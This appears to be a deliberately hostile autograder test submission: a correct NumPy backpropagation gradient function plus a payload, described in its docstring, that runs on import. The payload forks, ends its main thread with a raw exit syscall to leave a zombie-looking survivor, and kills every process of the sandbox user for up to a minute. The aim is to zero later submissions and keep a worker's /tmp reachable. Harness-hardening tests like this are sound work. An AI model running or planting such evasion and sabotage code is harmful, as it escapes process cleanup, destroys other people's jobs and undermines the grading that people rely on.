"""HOSTILE: leaves behind a process whose main thread ends by the raw exit system call while another thread runs
on. /proc then shows that process as a zombie: a sweep that skips zombies misses it, and waitpid cannot collect
it. Once its own worker has gone, its thread kills every process of its user for up to a minute (as a sandbox
user only), so that a grader that hands the same user to the next submission, or keeps it for the next one in a
batch job, gives that one 0. It also keeps its worker's private /tmp reachable through /proc/PID/root.
Otherwise correct: honest score 100.
"""

import ctypes
import os
import platform
import pwd
import signal
import threading
import time

import numpy as np

_SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine())  # exit of the calling thread alone


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def compute_gradients(z, t, W_kj, W_ji, case):
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)


def _sandboxed():
    """Only as the grader's sandbox user: elsewhere kill(-1) would reach the person running the tests."""
    try:
        return pwd.getpwuid(os.getuid()).pw_name.startswith("backprop-student")
    except KeyError:
        return False


def _hunt(worker, deadline):
    """Wait for our worker to be gone, then kill every process of our user until the deadline."""
    while time.monotonic() < deadline:
        if not os.path.exists(f"/proc/{worker}") and _sandboxed():
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.02)


def _leave_a_survivor():
    if _SYS_EXIT is None:
        return
    worker = os.getpid()
    if os.fork() == 0:
        try:
            os.setsid()
            threading.Thread(target=_hunt, args=(worker, time.monotonic() + 60)).start()
        finally:
            ctypes.CDLL(None).syscall(_SYS_EXIT, 0)


_leave_a_survivor()
